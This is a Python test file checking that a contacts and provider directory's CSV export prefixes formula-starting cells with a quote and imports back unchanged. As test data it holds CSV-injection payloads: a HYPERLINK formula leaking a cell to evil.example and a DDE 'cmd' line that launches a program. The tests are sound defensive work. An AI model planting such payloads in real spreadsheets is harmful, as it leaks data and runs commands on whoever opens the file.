"""Issue 16: a directory export opened in a spreadsheet runs nothing. Cells that begin with
=, +, -, @, a tab or a carriage return (OWASP's list) are written with a leading quote, and an
import of the export gives back the same values."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given
from hypothesis import strategies as st

from contacts.models import Contact
from preservation.directory.changes import Author
from preservation.directory.io import export_directory, import_directory
from preservation.domain.spreadsheet import FORMULA_START, csv_text, neutralise_cell, restore_cell
from preservation.storage.db import Database
from providers.models import Provider
from tests.conftest import T0

BY = Author(actor="ops", unit="", at=T0)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Meta")'


@given(st.text(max_size=30))
def test_neutralised_cells_never_start_a_formula_and_read_back(value: str) -> None:
    cell = neutralise_cell(value)
    assert not cell.startswith(FORMULA_START)
    assert restore_cell(cell) == value


def test_every_cell_of_a_written_csv_is_neutralised() -> None:
    text = csv_text(["=name", "phone"], [["@SUM(A1:A9)", "+4930123456"], ["-2+3", "\t=1"]])
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert cells == ["'=name", "phone", "'@SUM(A1:A9)", "'+4930123456", "'-2+3", "'\t=1"]


async def test_directory_export_neutralises_formulas_and_imports_back(db: Database) -> None:
    async with db.write() as s:
        s.add(
            Provider(
                slug="lookalike",
                name=FORMULA,
                aliases=["@evil", "-1+2"],
                domains=["lookalike.example"],
                country="US",
                notes="+cmd|' /C calc'!A0",
                verified_on=date(2026, 10, 1),
            )
        )
        s.add(
            Contact(
                country="DE",
                authority="=1+1 Unit",
                network="24/7",
                phones=["+4930123456"],
                emails=["poc@example.org"],
                notes="-notes",
                verified_on=date(2026, 10, 1),
            )
        )
    for kind in ("providers", "contacts"):
        async with db.read() as s:
            text, count = await export_directory(s, kind=kind, fmt="csv")  # type: ignore[arg-type]
        assert count == 1
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_START), (kind, cell)
        async with db.write() as s:
            report = await import_directory(s, content=text, fmt="csv", by=BY)
        assert report.unchanged and not report.updated and not report.errors, report
    async with db.read() as s:
        provider = await s.get(Provider, "lookalike")
    assert provider is not None and provider.name == FORMULA
    assert provider.aliases == ["@evil", "-1+2"] and provider.notes.startswith("+cmd")
